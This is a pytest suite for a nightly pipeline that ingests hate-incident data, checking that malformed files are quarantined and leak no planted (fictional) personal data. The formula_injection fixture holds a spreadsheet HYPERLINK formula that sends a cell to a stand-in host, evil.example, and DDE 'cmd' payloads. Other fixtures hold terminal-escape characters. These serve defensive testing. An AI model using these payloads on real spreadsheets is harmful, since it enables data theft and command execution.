"""Every kind of bad input, end to end: the nightly flow quarantines it with the exact record,
loads the good data delivered with it, and no personal value from the bad file appears anywhere
under INCIDENTS_HOME or in Prefect's database.

Each case writes the shared sample extracts (one good file per source) into a fresh landing
area, adds one bad file, runs `flows.nightly.nightly` and checks:

- the open quarantine records, exactly (source, file, row, rule, reason);
- the warehouse counts: the samples' rows plus the bad file's good rows, nothing else;
- the manifest status of the bad file;
- that none of the values planted in the bad file is found in any file under
  INCIDENTS_HOME or PREFECT_HOME (raw bytes, including the DuckDB and SQLite files) nor in any
  text column of the warehouse and the re-identification store (DuckDB may compress strings);
- that the run's Data Docs were written.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import polars as pl
import pytest
import xlsxwriter

from flows.cli import main as incidents
from flows.nightly import RunSummary, nightly
from transforms.spreadsheet_safety import spreadsheet_safe

pytestmark = pytest.mark.slow

SHARED_SAMPLES = Path("/work/shared/spec/samples")
SAMPLES = SHARED_SAMPLES if SHARED_SAMPLES.exists() else Path(__file__).parents[1] / "data" / "samples"
GOOD_FILES = [
    "cst/cst_incidents_20261104.csv",
    "police/gmp/gmp_antisemitic_crimes_20261019.csv",
    "police/mps/MPS_Antisemitic_2026_10.xlsx",
    "police/wyp/wyp-hate-2026-10-01.jsonl",
]
GOOD_COUNTS = {"cst": 5, "gmp": 3, "mps": 24, "wyp": 1}

# Personal values planted in the bad files only (none of them is in the samples).
NAME = "Quentin Zabriskie"
EMAIL = "q.zabriskie@example.org"
PHONE = "07700 900461"
DOB = "1961-03-17"
PLANTED = [NAME, EMAIL, PHONE, "Zabriskie", "900461"]
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="session")
def prefect_home() -> Path:
    """Prefect's temporary server keeps its SQLite database here for the whole session.

    tests/conftest.py points PREFECT_HOME at a temporary folder before Prefect is imported;
    the settings below must also be in place before the first flow call of the session.
    """
    for name, value in {
        "PREFECT_SERVER_ANALYTICS_ENABLED": "false",
        "PREFECT_LOGGING_LEVEL": "WARNING",
        "PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS": "120",
        "GX_ANALYTICS_ENABLED": "false",
    }.items():
        os.environ.setdefault(name, value)
    home = Path(os.environ["PREFECT_HOME"])
    home.mkdir(parents=True, exist_ok=True)
    return home


@pytest.fixture
def area(incidents_env: dict[str, Path], prefect_home: Path) -> dict[str, Path]:
    """A landing area holding one good sample file per source."""
    for key in GOOD_FILES:
        target = incidents_env["landing"] / key
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(SAMPLES / key, target)
    return {**incidents_env, "prefect": prefect_home}


# -- building bad files ----------------------------------------------------------------------------


def sample_rows(key: str) -> tuple[list[str], list[dict[str, str]]]:
    text = (SAMPLES / key).read_text(encoding="utf-8-sig")
    reader = csv.DictReader(io.StringIO(text))
    return list(reader.fieldnames or []), list(reader)


def csv_bytes(columns: list[str], rows: list[dict[str, str]], bom: bool = True) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\r\n", extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


# Every case's file lands beside the others' in one run: each takes references of its own.
FRESH_CST_REFS = itertools.count(91001, 10)
FRESH_GMP_REFS = itertools.count(191001, 10)


def cst_rows(count: int = 4, first: int = 90001) -> tuple[list[str], list[dict[str, str]]]:
    """New CST reports (fresh refs) modelled on the sample's rows."""
    columns, rows = sample_rows(GOOD_FILES[0])
    out = []
    for number in range(count):
        row = dict(rows[number % len(rows)])
        row["Incident Ref"] = f"CST/26/{first + number:05d}"
        out.append(row)
    return columns, out


def planted_cst(row: dict[str, str]) -> dict[str, str]:
    return {
        **row,
        "Victim Name": NAME,
        "Victim Email": EMAIL,
        "Victim Phone": PHONE,
        "Description": f"{NAME} ({PHONE}, {EMAIL}) was shouted at outside the shul.",
    }


def gmp_rows(count: int = 3, first: int = 190001) -> tuple[list[str], list[dict[str, str]]]:
    columns, rows = sample_rows(GOOD_FILES[1])
    out = []
    for number in range(count):
        row = dict(rows[number % len(rows)])
        row["CRIME_REF"] = f"GMP/26/{first + number:07d}"
        out.append(row)
    return columns, out


def planted_gmp(row: dict[str, str]) -> dict[str, str]:
    return {**row, "VICTIM_NAME": "ZABRISKIE, Quentin", "VICTIM_DOB": DOB,
            "MO_TEXT": f"IP {NAME.upper()} TEL {PHONE} EMAIL {EMAIL.upper()} ABUSED IN STREET."}


def wyp_record(reference: str, planted: bool = False) -> dict:
    record = json.loads((SAMPLES / GOOD_FILES[3]).read_text(encoding="utf-8"))
    record["reference"] = reference
    if planted:
        record["persons"] = [{"role": "victim", "name": NAME, "dob": DOB}]
        record["narrative"] = f"IP {NAME} TEL {PHONE} ABUSED."
    return record


def mps_workbook(rows: list[dict[str, object]]) -> bytes:
    frame = pl.read_excel(SAMPLES / GOOD_FILES[2], sheet_name="Export")
    columns = frame.columns
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet("Export")
    stamp = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
    day = workbook.add_format({"num_format": "yyyy-mm-dd"})
    sheet.write_row(0, 0, columns)
    for number, row in enumerate(rows, start=1):
        for index, column in enumerate(columns):
            value = row.get(column)
            if value is None:
                continue
            if hasattr(value, "hour"):
                sheet.write_datetime(number, index, value, stamp)
            elif hasattr(value, "year"):
                sheet.write_datetime(number, index, value, day)
            else:
                sheet.write(number, index, value)
    workbook.close()
    return buffer.getvalue()


def mps_rows(count: int = 3, first: int = 2390001) -> list[dict[str, object]]:
    frame = pl.read_excel(SAMPLES / GOOD_FILES[2], sheet_name="Export")
    rows = frame.head(count).to_dicts()
    for number, row in enumerate(rows):
        row["CRIS Ref"] = f"01/{first + number}/26"
    return rows


# -- the cases ----------------------------------------------------------------------------------------


@dataclass
class Case:
    key: str                                   # landing key of the bad file
    data: bytes
    expected: list[tuple[int | None, str, str]]  # (row, rule, reason) open quarantine records
    loaded: dict[str, int] = field(default_factory=dict)  # good rows of the bad file, per source
    planted: list[str] = field(default_factory=lambda: list(PLANTED))

    @property
    def source(self) -> str:
        parts = self.key.split("/")
        return parts[1] if parts[0] == "police" else parts[0]

    @property
    def whole_file(self) -> bool:
        return any(row is None for row, _, _ in self.expected)


def undecodable_encoding() -> Case:
    columns, rows = cst_rows(3)
    rows[1] = planted_cst(rows[1]) | {"Victim Name": "Quentin Zabriskie-Ó'Brien"}
    text = csv_bytes(columns, rows, bom=False).decode()
    data = text.encode("cp1252")
    try:
        data.decode("utf-8")
    except UnicodeDecodeError as error:
        offset = error.start
    return Case("cst/cst_incidents_20261105.csv", data, [
        (None, "decodable_as_declared_encoding",
         f"the file cannot be decoded as utf-8 (first undecodable byte at offset {offset})"),
    ])


def missing_required_column() -> Case:
    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
    rows = [planted_gmp(r) for r in rows]
    columns = [c for c in columns if c != "RECORD_STATUS"]
    return Case("police/gmp/gmp_antisemitic_crimes_20261026.csv", csv_bytes(columns, rows, bom=False), [
        (None, "required_columns_present", "required columns missing: RECORD_STATUS"),
    ])


def not_a_spreadsheet() -> Case:
    columns, rows = gmp_rows(2, first=next(FRESH_GMP_REFS))
    data = csv_bytes(columns, [planted_gmp(r) for r in rows], bom=False)
    return Case("police/mps/MPS_Antisemitic_2026_11.xlsx", data, [
        (None, "is_spreadsheet", "the file is not an XLSX workbook (it looks like text or unknown binary data)"),
    ])


def empty() -> Case:
    return Case("cst/cst_incidents_20261106.csv", b"", [(None, "file_not_empty", "the file is empty")])


def header_only() -> Case:
    columns, _ = cst_rows(1)
    return Case("cst/cst_incidents_20261107.csv", csv_bytes(columns, []), [
        (None, "file_has_rows", "the file has a header but no data rows"),
    ])


def truncated_mid_row() -> Case:
    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
    rows[2] = planted_gmp(rows[2]) | {"VICTIM_NAME": f"ZABRISKIE, Quentin {PHONE}"}
    data = csv_bytes(columns, rows, bom=False)
    cut = data.index(b"ZABRISKIE, Quentin") + len("ZABRISKIE, Quentin 07700 9004")  # inside the quotes
    return Case("police/gmp/gmp_antisemitic_crimes_20261027.csv", data[:cut], [
        (None, "complete_rows", "a quoted field is never closed: the file is truncated mid-row"),
    ], planted=[NAME, "Zabriskie", "ZABRISKIE"])


def nul_bytes() -> Case:
    lines = [json.dumps(wyp_record("13264000701", planted=True)), json.dumps(wyp_record("13264000702"))]
    text = ("\n".join(lines) + "\n").encode()
    position = text.index(b"ABUSED")
    data = text[:position] + b"\x00" + text[position:]
    return Case("police/wyp/wyp-hate-2026-10-02.jsonl", data, [
        (None, "no_nul_bytes", f"the file contains NUL bytes (first at byte {position}): not a text extract"),
    ])


def junk() -> Case:
    letter = (
        f"Dear Data Team,\r\nPlease find below the details for {NAME}, born {DOB}.\r\n"
        f"Phone {PHONE}, email {EMAIL}.\r\nRegards\r\n"
    ).encode()
    return Case("police/gmp/covering_letter.csv", letter, [
        (None, "is_extract", "none of the columns a gmp extract has were found: not an extract of this source"),
    ])


def bad_cst_row(**values: str) -> Callable[[], bytes]:
    def build() -> bytes:
        columns, rows = cst_rows(4, first=next(FRESH_CST_REFS))
        rows[1] = planted_cst(rows[1]) | values
        return csv_bytes(columns, rows)
    return build


def missing_ref() -> Case:
    return Case("cst/cst_incidents_20261108.csv", bad_cst_row(**{"Incident Ref": ""})(), [
        (2, "ref_present", "column 'Incident Ref' is empty"),
    ], {"cst": 3})


def unparseable_date() -> Case:
    return Case("cst/cst_incidents_20261109.csv", bad_cst_row(**{"Date of Incident": "31/02/2026"})(), [
        (2, "incident_date_parseable",
         "column 'Date of Incident' is not a date in the expected format (%d/%m/%Y or %Y-%m-%d)"),
    ], {"cst": 3})


def future_date() -> Case:
    return Case("cst/cst_incidents_20261110.csv", bad_cst_row(**{"Date Reported": "01/01/2099"})(), [
        (2, "reported_date_in_range", "column 'Date Reported' is a date in the future or before 1980-01-01"),
    ], {"cst": 3})


def unknown_category() -> Case:
    return Case("cst/cst_incidents_20261111.csv", bad_cst_row(Category="Hooliganism")(), [
        (2, "category_known", "column 'Category' is not one of CST's six categories"),
    ], {"cst": 3})


def bad_postcode() -> Case:
    return Case("cst/cst_incidents_20261112.csv", bad_cst_row(Postcode=PHONE)(), [
        (2, "postcode_well_formed", "column 'Postcode' does not have the shape of a UK postcode"),
    ], {"cst": 3})


def unordered_range() -> Case:
    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
    rows[1] = planted_gmp(rows[1]) | {"COMMITTED_FROM": "2026-10-23 21:00:00", "COMMITTED_TO": "2026-10-22 21:00:00"}
    return Case("police/gmp/gmp_antisemitic_crimes_20261102.csv", csv_bytes(columns, rows, bom=False), [
        (2, "occurred_range_ordered", "column 'COMMITTED_TO' is before column 'COMMITTED_FROM'"),
    ], {"gmp": 2})


def duplicate_ref() -> Case:
    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
    rows[0] = planted_gmp(rows[0])
    rows[2] = planted_gmp(rows[2]) | {"CRIME_REF": rows[0]["CRIME_REF"]}
    reason = "the reference in column 'CRIME_REF' appears more than once in this file"
    return Case("police/gmp/gmp_antisemitic_crimes_20261109.csv", csv_bytes(columns, rows, bom=False), [
        (1, "ref_unique_in_file", reason), (3, "ref_unique_in_file", reason),
    ], {"gmp": 1})


def unknown_offence_code() -> Case:
    rows = mps_rows(3)
    rows[1] |= {"Offence Sub Type": "ZZ9", "Victim Surname": "Zabriskie", "Victim Forename": "Quentin",
                "Summary": f"IP {NAME} TEL {PHONE}."}
    return Case("police/mps/MPS_Antisemitic_2026_12.xlsx", mps_workbook(rows), [
        (2, "offence_code_known", "column 'Offence Sub Type' is not a known Home Office offence code"),
    ], {"mps": 2})


def bad_json_line() -> Case:
    broken = '{"reference": "13264000712", "narrative": "IP ' + NAME + " TEL " + PHONE + ', "status": "confirmed"}'
    try:
        json.loads(broken)
    except json.JSONDecodeError as error:
        message = error.msg
    lines = [json.dumps(wyp_record("13264000711")), broken, json.dumps(wyp_record("13264000713"))]
    return Case("police/wyp/wyp-hate-2026-10-03.jsonl", ("\n".join(lines) + "\n").encode(), [
        (2, "parseable_json_line", f"the line is not valid JSON ({message})"),
    ], {"wyp": 2})


def megabyte_field() -> Case:
    text = f"{NAME} called from {PHONE}. " + "They shouted abuse again and again. " * 30_000
    return Case("cst/cst_incidents_20261113.csv", bad_cst_row(Description=text)(), [
        (2, "free_text_length", "a free-text column (Description, Offender Description) is longer than 50,000 characters"),
    ], {"cst": 3})


FILE_LEVEL = [undecodable_encoding, missing_required_column, not_a_spreadsheet, empty, header_only,
              truncated_mid_row, nul_bytes, junk]
ROW_LEVEL = [missing_ref, unparseable_date, future_date, unknown_category, bad_postcode, unordered_range,
             duplicate_ref, unknown_offence_code, bad_json_line, megabyte_field]


# -- checks ---------------------------------------------------------------------------------------------


def run() -> RunSummary:
    summary = nightly()
    assert isinstance(summary, RunSummary)
    return summary


def query(home: Path, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def open_quarantine(home: Path) -> list[tuple]:
    return query(
        home,
        "select source_id, file_key, source_row, rule, reason from quarantine where resolved_at is null "
        "order by file_key, source_row nulls first, rule",
    )


def loaded_counts(home: Path) -> dict[str, int]:
    counts = dict(query(home, "select 'cst', count(*) from stg_cst_report_versions"))
    counts.update(query(home, "select force_id, count(*) from stg_police_crime_versions group by force_id"))
    return counts


def text_columns(con: duckdb.DuckDBPyConnection) -> list[tuple[str, str]]:
    return con.execute(
        "select table_name, column_name from information_schema.columns "
        "where data_type like 'VARCHAR%' and table_schema = 'main'"
    ).fetchall()


UUID = re.compile(rb"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
DIGEST = re.compile(rb"[0-9a-f]{32,}")  # a sha256 file hash or an HMAC pseudonym, in hex


def _occurs(needle: bytes, data: bytes) -> bool:
    """`needle` in `data`, not counting a run of digits that is part of a UUID (Prefect's
    database holds thousands: a phone number's last six digits turned up in one) or of a
    hex digest (a landing file's sha256 held `900461` once)."""
    if not needle.isdigit():
        return needle in data
    uuids = [m.span() for pattern in (UUID, DIGEST) for m in pattern.finditer(data)] if needle in data else []
    start = data.find(needle)
    while start >= 0:
        if not any(a <= start and start + len(needle) <= b for a, b in uuids):
            return True
        start = data.find(needle, start + 1)
    return False


def assert_nowhere(values: list[str], *roots: Path) -> None:
    """No planted value in any file under `roots` (bytes), nor in any text column of a DuckDB file there."""
    needles = {v.encode(form) for v in values for form in ("utf-8", "utf-16-le")} | {
        variant.encode() for v in values for variant in (v.upper(), v.lower())
    }
    for root in roots:
        for path in root.rglob("*"):
            if not path.is_file() or path.is_symlink():
                continue
            data = path.read_bytes()
            found = [n for n in needles if _occurs(n, data)]
            assert not found, f"planted value {found[0]!r} found in {path}"
            if path.suffix == ".duckdb" and not path.name.endswith(".wal"):
                con = duckdb.connect(str(path), read_only=True)
                try:
                    for table, column in text_columns(con):
                        for value in values:
                            hits = con.execute(
                                f'select count(*) from "{table}" where contains(lower("{column}"::varchar), ?)',
                                [value.lower()],
                            ).fetchone()[0]
                            assert hits == 0, f"planted value {value!r} in {path.name}:{table}.{column}"
                finally:
                    con.close()


def formula_injection() -> Case:
    columns, rows = cst_rows(3, first=90101)
    rows[1] = planted_cst(rows[1]) | {
        "Town": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "Offender Description": "+cmd|' /C calc'!A0",
        "Description": "@SUM(1+1)*cmd|' /C calc'!A0 then they left",
        "Police Force Area": "-2+3",
    }
    return Case("cst/cst_incidents_20261114.csv", csv_bytes(columns, rows), [], {"cst": 3})


def control_characters() -> Case:
    columns, rows = cst_rows(3, first=90201)
    rows[1] = planted_cst(rows[1]) | {
        "Town": "Sal\x07ford\x1b[2J\u202e",
        "Offender Description": "white\x0b male\x7f in his 20s\x85",
        "Category": "Abusive\x0c Behaviour",
    }
    return Case("cst/cst_incidents_20261115.csv", csv_bytes(columns, rows), [], {"cst": 3})


CLEAN_BUT_HOSTILE = [formula_injection, control_characters]
ALL_CASES = FILE_LEVEL + ROW_LEVEL + CLEAN_BUT_HOSTILE


@pytest.fixture(scope="module")
def night_of_bad_files(tmp_path_factory: pytest.TempPathFactory, prefect_home: Path) -> dict:
    """Every case's file in one landing area beside the good samples, and ONE nightly run.

    Each file is validated and quarantined on its own (the product's promise), so one run
    serves every case and the cases also check that bad files do not disturb each other.
    """
    root = tmp_path_factory.mktemp("bad_input")
    landing, home = root / "landing", root / "home"
    for key in GOOD_FILES:
        (landing / key).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(SAMPLES / key, landing / key)
    cases = {build.__name__: build() for build in ALL_CASES}
    assert len({case.key for case in cases.values()}) == len(cases), "each case needs a file name of its own"
    for case in cases.values():
        (landing / case.key).parent.mkdir(parents=True, exist_ok=True)
        (landing / case.key).write_bytes(case.data)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("INCIDENTS_LANDING", str(landing))
        patch.setenv("INCIDENTS_HOME", str(home))
        patch.delenv("INCIDENTS_CONFIG", raising=False)
        patch.chdir(root)
        summary = run()
    return {"cases": cases, "summary": summary, "home": home, "prefect": prefect_home}


def loaded_rows_of(home: Path, file_key: str) -> dict[str, int]:
    rows = query(
        home,
        "select 'cst', count(*) from stg_cst_report_versions v join manifest m using (file_hash) "
        "where m.file_key = ? group by all having count(*) > 0 union all "
        "select v.force_id, count(*) from stg_police_crime_versions v join manifest m using (file_hash) "
        "where m.file_key = ? group by all having count(*) > 0",
        [file_key, file_key],
    )
    return dict(rows)


@pytest.mark.parametrize("build", ALL_CASES, ids=lambda f: f.__name__)
def test_bad_input_is_quarantined_and_the_rest_loads(build, night_of_bad_files):
    case, home = night_of_bad_files["cases"][build.__name__], night_of_bad_files["home"]
    expected = [(case.source, case.key, row, rule, reason) for row, rule, reason in case.expected]
    assert [entry for entry in open_quarantine(home) if entry[1] == case.key] == expected
    assert loaded_rows_of(home, case.key) == case.loaded
    status = query(home, "select status from manifest where file_key = ?", [case.key])
    assert status == [("quarantined" if case.whole_file else "loaded",)]


def test_one_night_of_bad_files_loads_all_the_good_rows_and_leaks_nothing(night_of_bad_files):
    cases, summary, home = night_of_bad_files["cases"].values(), night_of_bad_files["summary"], night_of_bad_files["home"]
    want = dict(GOOD_COUNTS)
    for case in cases:
        for source, extra in case.loaded.items():
            want[source] += extra
    assert loaded_counts(home) == want
    assert len(open_quarantine(home)) == sum(len(case.expected) for case in cases)
    assert summary.files_quarantined == sum(case.whole_file for case in cases)
    assert summary.files_ingested == len(GOOD_FILES) + len(cases)
    assert (home / "reports" / "validation" / summary.run_id / "index.html").exists()
    assert_nowhere(sorted({value for case in cases for value in case.planted}), home, night_of_bad_files["prefect"])


def test_formula_injection_is_stored_as_text_and_neutralised_on_export(night_of_bad_files):
    stored = query(night_of_bad_files["home"], "select town, offender_description_redacted, description_redacted "
                                               "from stg_cst_report_versions where town like '=%'")
    assert len(stored) == 1 and stored[0][0].lower().startswith("=hyperlink(")
    exported = spreadsheet_safe(pl.DataFrame([stored[0]], schema=["town", "offender", "description"], orient="row"))
    assert all(value is None or value[0] not in "=+-@" for value in exported.row(0))
    assert exported["town"][0].startswith("'=")


def test_control_characters_are_cleaned(night_of_bad_files):
    con = duckdb.connect(str(night_of_bad_files["home"] / "warehouse.duckdb"), read_only=True)
    try:
        for table in ("stg_cst_report_versions", "stg_police_crime_versions"):
            for (column,) in con.execute(
                "select column_name from information_schema.columns where table_name = ? and data_type = 'VARCHAR'",
                [table],
            ).fetchall():
                values = [v for (v,) in con.execute(f'select "{column}" from {table}').fetchall() if v]
                assert not any(CONTROL.search(v) for v in values), f"control character in {table}.{column}"
        towns = [t for (t,) in con.execute("select town from stg_cst_report_versions").fetchall()]
        assert any(t.lower().startswith("salford[2j") for t in towns if t)
    finally:
        con.close()


def test_a_file_no_source_can_read_is_contained(area, monkeypatch):
    """An input no rule foresaw (here: standardisation crashes on it) quarantines that file only;
    it is tried again once the code (or configuration) changes, and loads when the fix has landed."""
    import flows.nightly as flow_module

    real = flow_module.staged_police_crimes

    def crash_on_gmp(raw, mapping, reference, key):
        if mapping.id == "gmp" and raw.height == 2:
            raise ValueError(f"cannot handle {raw['VICTIM_NAME'][0]}")  # a message quoting data
        return real(raw, mapping, reference, key)

    monkeypatch.setattr(flow_module, "staged_police_crimes", crash_on_gmp)
    columns, rows = gmp_rows(2)
    key = "police/gmp/gmp_antisemitic_crimes_20261116.csv"
    (area["landing"] / key).write_bytes(csv_bytes(columns, [planted_gmp(r) for r in rows], bom=False))
    summary = run()
    home = area["home"]
    assert open_quarantine(home) == [
        ("gmp", key, None, "processing_error",
         "the file could not be processed (ValueError); it stays in the landing area"),
    ]
    assert loaded_counts(home) == GOOD_COUNTS
    assert summary.files_quarantined == 1
    assert_nowhere(PLANTED, home, area["prefect"])

    # the same code and configuration again: the file is not retried
    assert run().files_ingested == 0
    # a new code version that still fails: retried once, the entry stands, nothing doubled
    monkeypatch.setattr(flow_module, "code_version", lambda: "still-broken")
    again = run()
    assert again.files_ingested == 1 and again.files_quarantined == 1
    assert len(open_quarantine(home)) == 1 and query(home, "select count(*) from quarantine") == [(1,)]
    assert run().files_ingested == 0
    # the fix lands (a new version): the file loads and its entry is resolved by that run
    monkeypatch.setattr(flow_module, "staged_police_crimes", real)
    monkeypatch.setattr(flow_module, "code_version", lambda: "fixed")
    fixed = run()
    assert fixed.files_ingested == 1 and fixed.files_quarantined == 0
    assert open_quarantine(home) == []
    assert query(home, "select resolved_by_run from quarantine") == [(fixed.run_id,)]
    assert loaded_counts(home) == GOOD_COUNTS | {"gmp": GOOD_COUNTS["gmp"] + 2}
    assert query(home, "select status, rows_loaded, run_id from manifest where file_key = ?", [key]) == [
        ("loaded", 2, fixed.run_id)
    ]
    assert_nowhere(PLANTED, home, area["prefect"])


def test_resend_after_fix_loads_the_rows_and_resolves_the_entries(area, capsys):
    home, landing = area["home"], area["landing"]
    # a row with a bad date (it has a reference), a row without a reference, and a broken file
    columns, rows = cst_rows(4, first=90301)
    fixed_rows = [dict(r) for r in rows]
    rows[1] = planted_cst(rows[1]) | {"Date of Incident": "31/02/2026"}
    rows[2] = planted_cst(rows[2]) | {"Incident Ref": ""}
    (landing / "cst" / "cst_incidents_20261117.csv").write_bytes(csv_bytes(columns, rows))
    gmp_columns, gmp = gmp_rows(2, first=190301)
    broken_key = "police/gmp/gmp_antisemitic_crimes_20261117.csv"
    (landing / broken_key).write_bytes(
        csv_bytes([c for c in gmp_columns if c != "OFFENCE_CODE"], [planted_gmp(r) for r in gmp], bom=False)
    )
    run()
    assert [(r[1], r[2], r[3]) for r in open_quarantine(home)] == [
        ("cst/cst_incidents_20261117.csv", 2, "incident_date_parseable"),
        ("cst/cst_incidents_20261117.csv", 3, "ref_present"),
        (broken_key, None, "required_columns_present"),
    ]
    assert loaded_counts(home) == GOOD_COUNTS | {"cst": 7}

    # the very same broken files again: nothing new, nothing doubled
    (landing / "cst" / "cst_incidents_20261117 (1).csv").write_bytes(csv_bytes(columns, rows))
    again = run()
    assert again.files_ingested == 0 and again.rows_quarantined == 0
    assert query(home, "select count(*) from quarantine") == [(3,)]

    # the senders fix and resend: CST as a corrected file (v2), GMP under the same name
    (landing / "cst" / "cst_incidents_20261117_v2.csv").write_bytes(csv_bytes(columns, fixed_rows))
    (landing / broken_key).write_bytes(csv_bytes(gmp_columns, gmp, bom=False))
    fixed = run()
    assert open_quarantine(home) == []
    resolved = query(home, "select count(*), min(resolved_by_run), max(resolved_by_run) from quarantine "
                           "where resolved_at is not null")
    assert resolved == [(3, fixed.run_id, fixed.run_id)]
    counts = loaded_counts(home)
    assert counts["gmp"] == GOOD_COUNTS["gmp"] + 2
    assert query(home, "select count(*) from stg_cst_reports") == [(5 + 4,)]
    assert incidents(["quarantine"]) == 0
    assert capsys.readouterr().out.strip() == "no open quarantine entries"
    assert incidents(["quarantine", "--all"]) == 0
    listing = capsys.readouterr().out
    assert listing.count("[resolved ") == 3 and "whole file  required_columns_present" in listing
    assert_nowhere(PLANTED, home, area["prefect"])


def test_a_folder_no_force_is_configured_for_is_reported(area, capsys):
    home, landing = area["home"], area["landing"]
    stray = landing / "police" / "xyz" / "xyz_crimes_20261101.csv"
    stray.parent.mkdir(parents=True)
    columns, rows = gmp_rows(2, first=190401)
    stray.write_bytes(csv_bytes(columns, [planted_gmp(r) for r in rows], bom=False))
    summary = run()
    assert summary.unconfigured_files == ["police/xyz/xyz_crimes_20261101.csv"]
    assert loaded_counts(home) == GOOD_COUNTS
    assert query(home, "select file_key, folder, issue from landing_issues") == [
        ("police/xyz/xyz_crimes_20261101.csv", "police/xyz", "no source is configured for this folder"),
    ]
    assert incidents(["quarantine"]) == 0
    out = capsys.readouterr().out
    assert "police/xyz/xyz_crimes_20261101.csv  folder police/xyz: no source is configured for this folder" in out
    run()  # seen again: still one entry, last_seen moves
    assert query(home, "select count(*) from landing_issues") == [(1,)]
    assert_nowhere(PLANTED, home, area["prefect"])


def test_one_gx_run_for_several_files_quarantines_what_file_by_file_does():
    """`prepared_files` (a source's new files validated together) gives each file its own outcome."""
    from flows.config import Settings
    from flows.landing import LandedFile
    from flows.nightly import prepared_file, prepared_files

    settings = Settings()
    key = bytes(range(32))
    groups = {
        "police/gmp": [missing_required_column(), truncated_mid_row(), unordered_range(), duplicate_ref(), junk()],
        "cst": [missing_ref(), unparseable_date(), future_date(), unknown_category(), bad_postcode(),
                megabyte_field(), header_only()],
    }
    for folder, cases in groups.items():
        mapping = settings.mappings[folder]
        items = [(LandedFile(case.key, len(case.data), 0.0), case.data) for case in cases]
        items.append((LandedFile(f"{folder}/good.csv", 0, 0.0), (SAMPLES / (
            GOOD_FILES[0] if folder == "cst" else GOOD_FILES[1])).read_bytes()))
        together = prepared_files(mapping.id, items, mapping, settings.reference_data, key)
        alone = [prepared_file(mapping.id, f, d, mapping, settings.reference_data, key) for f, d in items]
        for case, batch, single in zip([*cases, None], together, alone, strict=True):
            records = [(q["source_row"], q["rule"], q["reason"]) for q in batch.quarantined]
            assert records == [(q["source_row"], q["rule"], q["reason"]) for q in single.quarantined]
            assert [q["record_key"] for q in batch.quarantined] == [q["record_key"] for q in single.quarantined]
            assert sorted(records, key=str) == sorted(case.expected if case else [], key=str)
            if single.staged is None:
                assert batch.staged is None
            else:
                assert batch.staged.equals(single.staged) and batch.pseudonyms.equals(single.pseudonyms)
        entries = [entry for item in together for entry in item.validation_results]
        assert sum(1 for e in entries if e["label"].endswith(" files")) == 2  # raw and staging suites
